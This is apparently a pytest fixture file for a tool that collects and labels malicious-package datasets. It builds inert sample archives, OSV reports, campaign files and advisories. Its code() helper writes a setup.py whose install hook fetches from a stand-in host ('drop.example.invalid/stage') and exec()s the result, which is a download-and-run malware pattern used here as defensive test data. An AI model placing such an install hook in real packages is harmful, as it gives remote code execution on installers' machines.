"""Sources of our own making: inert packages in every layout that a source may have."""

from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path
from types import SimpleNamespace

import pytest

pyzipper = pytest.importorskip("pyzipper", reason="needs pratique[dataset]")

MARK = b"inert-marker-that-must-never-be-on-disk"
"""In every sample of these tests: no file that is ever written may hold it in the clear."""


OTHER = "".join(
    f"print(os.path.{name}('x', {at}))\n"
    for at, name in enumerate(
        ("join", "split", "exists", "isdir", "isfile", "abspath", "dirname", "basename", "expanduser", "normpath")
    )
)
"""Code of another hand: what stands beside it is no near-duplicate of what stands alone."""


def code(extra: str = "") -> bytes:
    """Return a setup.py that reads like a downloader, with the mark; its host does not exist (RFC 2606)."""
    text = (
        "import os, urllib.request\n"
        "from setuptools import setup\n"
        "from setuptools.command.install import install\n"
        f"NOTE = {MARK.decode()!r}\n"
        "class Post(install):\n"
        "    def run(self):\n"
        "        body = urllib.request.urlopen('https://drop.example.invalid/stage').read()\n"
        "        exec(body)\n"
        "        install.run(self)\n"
        f"{extra}\n"
        "setup(name='acme', cmdclass={'install': Post})\n"
    )
    return text.encode()


def sdist(name: str = "acme", version: str = "1.0", extra: str = "", host: str = "drop") -> bytes:
    """Return a tar, not compressed, so that the mark would show."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as tar:
        for path, data in {
            "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode(),
            "setup.py": code(extra).replace(b"drop.", host.encode() + b"."),
        }.items():
            member = tarfile.TarInfo(f"{name}-{version}/{path}")
            member.size = len(data)
            tar.addfile(member, io.BytesIO(data))
    return packed.getvalue()


def aes_zip(members: dict[str, bytes], password: bytes = b"infected") -> bytes:
    """Return an AES zip."""
    packed = io.BytesIO()
    with pyzipper.AESZipFile(packed, "w", encryption=pyzipper.WZ_AES, compression=pyzipper.ZIP_DEFLATED) as archive:
        archive.setpassword(password)
        for name, data in members.items():
            archive.writestr(name, data)
    return packed.getvalue()


def put(place: Path, data: bytes | object) -> Path:
    """Write a file with its folders; anything but bytes as JSON."""
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_bytes(data if isinstance(data, bytes) else json.dumps(data).encode())
    return place


@pytest.fixture
def make() -> SimpleNamespace:
    """Give the functions above to tests."""
    return SimpleNamespace(code=code, sdist=sdist, aes_zip=aes_zip, put=put, mark=MARK)


@pytest.fixture
def malregistry(tmp_path):
    """A registry of raw archives: two names, one with two versions."""
    root = tmp_path / "malregistry"
    put(root / "acme" / "1.0" / "acme-1.0.tar", sdist())
    put(root / "acme" / "1.1" / "acme-1.1.tar", sdist(version="1.1"))
    put(root / "Acme_Banner" / "0.1" / "Acme_Banner-0.1.tar", sdist("Acme_Banner", "0.1", "x = 1"))
    return root


@pytest.fixture
def datadog(tmp_path):
    """DataDog's layout with an intent, a hijack and an npm scope."""
    root = tmp_path / "datadog"
    samples = root / "samples"
    put(samples / "pypi" / "manifest.json", {"acme": None, "honest": ["2.0"]})
    put(
        samples / "pypi" / "malicious_intent" / "acme" / "1.0" / "2024-05-01-acme-v1.0.zip",
        aes_zip({"acme-1.0/setup.py": code(), "acme-1.0/acme/__init__.py": b""}),
    )
    put(
        samples / "pypi" / "compromised_lib" / "honest" / "2.0" / "2024-06-02-honest-v2.0.zip",
        aes_zip({"honest-2.0/honest/__init__.py": code("y = 2")}),
    )
    put(
        samples / "npm" / "malicious_intent" / "@acme" / "left" / "1.0.0" / "2024-06-03-@acme-left-v1.0.0.zip",
        aes_zip({"package/index.js": MARK}),
    )
    return root


@pytest.fixture
def ossf(tmp_path):
    """OSV documents: one by two origins, one for all versions, one withdrawn."""
    root = tmp_path / "ossf"
    report = {
        "schema_version": "1.5.0", "id": "MAL-2024-0001", "published": "2024-10-16T14:36:16Z",
        "affected": [{"package": {"ecosystem": "PyPI", "name": "Acme"}, "versions": ["1.0", "1.1"]}],
        "database_specific": {
            "malicious-packages-origins": [{"source": "vendor-a"}, {"source": "ossf-package-analysis"}],
            "iocs": {"urls": ["https://drop.example.invalid/stage"]},
        },
    }  # fmt: skip
    whole = {
        "id": "MAL-2024-0002",
        "affected": [{"package": {"ecosystem": "PyPI", "name": "acme-banner"}, "ranges": [{"type": "SEMVER"}]}],
    }
    back = report | {"id": "MAL-2024-0003", "withdrawn": "2024-12-01T00:00:00Z"}
    back["affected"] = [{"package": {"ecosystem": "PyPI", "name": "wronged"}, "versions": ["3.0"]}]
    put(root / "osv" / "malicious" / "pypi" / "acme" / "MAL-2024-0001.json", report)
    put(root / "osv" / "malicious" / "pypi" / "acme-banner" / "MAL-2024-0002.json", whole)
    put(root / "osv" / "withdrawn" / "pypi" / "wronged" / "MAL-2024-0003.json", back)
    return root


@pytest.fixture
def kam193(tmp_path):
    """A campaign, a pentest, and a package that only a campaign lists."""
    root = tmp_path / "kam193" / "pypi"
    campaign = {
        "name": "2024-07-example", "ecosystem": "pypi", "category": "malicious", "created_at": "2024-07-24",
        "abuse_categories": ["", "infostealer"], "packages": ["acme", "only-listed"],
        "ioc": ["hxxps://drop[.]example[.]invalid/stage"],
    }  # fmt: skip
    put(root / "campaigns" / "malicious" / "2024-07-example.json", campaign)
    put(
        root / "packages" / "malicious" / "json" / "acme.json",
        {"name": "acme", "ecosystem": "pypi", "campaign": "2024-07-example", "affected_versions": ["1.0"]},
    )
    put(
        root / "packages" / "probably_pentest" / "json" / "acme-banner.json",
        {"name": "acme-banner", "campaign": "tests", "affected_versions": ["0.1"]},
    )
    return root.parent


@pytest.fixture
def pysec(tmp_path):
    """Advisories: one about malware in YAML, one in JSON, one about an honest fault."""
    root = tmp_path / "advisories"
    put(
        root / "vulns" / "acme" / "PYSEC-2024-1.yaml",
        b"id: PYSEC-2024-1\npublished: 2024-03-01T00:00:00Z\ndetails: The release contains malicious code.\n"
        b"affected:\n- package: {name: acme, ecosystem: PyPI}\n  versions: ['1.0']\n",
    )
    put(
        root / "vulns" / "acme-banner" / "PYSEC-2024-2.json",
        {
            "id": "PYSEC-2024-2", "details": "A backdoor was published.",
            "affected": [{"package": {"name": "acme-banner", "ecosystem": "PyPI"}, "versions": ["0.1"]}],
        },
    )  # fmt: skip
    put(
        root / "vulns" / "honest" / "PYSEC-2024-3.yaml",
        b"id: PYSEC-2024-3\ndetails: A regular expression is slow.\n"
        b"affected:\n- package: {name: honest, ecosystem: PyPI}\n  versions: ['2.0']\n",
    )
    return root


@pytest.fixture
def pack(tmp_path):
    """A labelled pack of two rows."""
    import hashlib

    root = tmp_path / "pack"
    rows = [
        (
            "path,sha256,name,version,filename,date,cluster,verdict,campaign,abuse_tags,sources,suspect_mislabel,"
            "kam193_category,osv_id,osv_scope,pentest_hint,date_source,upstream_path,harm_note"
        )
    ]
    for name, version, campaign, sources, doubt, category, scope in (
        ("acme", "1.0", "2024-07-example", "malregistry|osv:vendor-a+vendor-b|kam193", "", "malicious", "version"),
        ("acme-banner", "0.1", "", "malregistry|osv:vendor-a", "tiny", "", "all"),
    ):
        data = sdist(name, version, *(("", "drop") if category else (OTHER, "other")))
        path = f"samples/pypi/malicious_intent/{name}/{version}/2024-05-01-{name}-v{version}.zip"
        put(root / path, aes_zip({f"{name}-{version}.tar": data}))
        digest = hashlib.sha256(data).hexdigest()
        row = (path, digest, name, version, f"{name}-{version}.tar", "2024-05-01", "1", "malicious", campaign,
               "infostealer" if category else "", sources, doubt, category, "MAL-2024-0001", scope, "0", "mtime",
               f"{name}/{version}/{name}-{version}.tar", "")  # fmt: skip
        rows.append(",".join(row))
    put(root / "labels.csv", "\n".join(rows).encode())
    return root


@pytest.fixture
def decisions(tmp_path):
    """Write decisions: (purl, sha256, outcome, by, at) each."""

    def write(*rows: tuple[str, str, str, str, str]) -> Path:
        names = ("purl", "sha256", "outcome", "by", "at")
        lines = [json.dumps({"schema": "decisions-v1"} | dict(zip(names, row, strict=True))) for row in rows]
        return put(tmp_path / "decisions.jsonl", "\n".join(lines).encode())

    return write
